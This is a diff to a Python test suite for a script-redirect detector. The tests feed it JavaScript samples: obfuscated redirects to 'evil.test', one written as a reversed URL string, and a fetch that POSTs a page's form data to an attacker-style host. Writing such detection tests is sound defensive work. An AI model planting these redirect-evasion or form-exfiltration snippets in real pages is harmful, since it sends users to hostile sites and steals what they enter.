@@ -9,6 +9,13 @@ from hypothesis import strategies as st
 from aidroute.domain.script_redirects import read_script
 
 GOES = [
+    "document.defaultView.location='http://evil.test/a'",
+    "navigation.navigate('http://evil.test/a')",
+    "Object.assign(location, {href: 'http://evil.test/a'})",
+    "Reflect.set(location, 'href', 'http://evil.test/a')",
+    "location.href = new URL('http://evil.test/a')",
+    "$(location).attr('href', 'http://evil.test/a')",
+    "location='a/tset.live//:ptth'.split('').reverse().join('')",
     "location.href='http://evil.test/a'",
     'window.location = "http://evil.test/a";',
     "document.location='http://evil.test/a'",
@@ -128,3 +135,21 @@ PARTS = (
 @settings(max_examples=200)
 def test_no_script_is_an_error(script: str) -> None:
     assert len(read_script(script).targets) < 30
+
+
+def test_a_form_that_a_script_sends_elsewhere_is_found() -> None:
+    found = read_script("fetch('https://evil.test/c', {method: 'POST', body: new FormData(document.forms[0])})")
+    assert found.actions == ["https://evil.test/c"]
+
+
+def test_counting_visits_sends_no_form() -> None:
+    assert read_script("fetch('https://stats.test/v', {method: 'POST', body: '1'})").actions == []
+
+
+def test_a_click_by_script_is_found_and_one_by_a_person_is_not() -> None:
+    assert read_script("document.getElementById('z').click()").clicks == ["z"]
+    assert read_script("function go() { document.getElementById('z').click() }").clicks == []
+
+
+def test_a_literal_that_a_method_changes_is_not_taken_as_it_stands() -> None:
+    assert read_script("location = '/a'.concat(secret)").targets == []
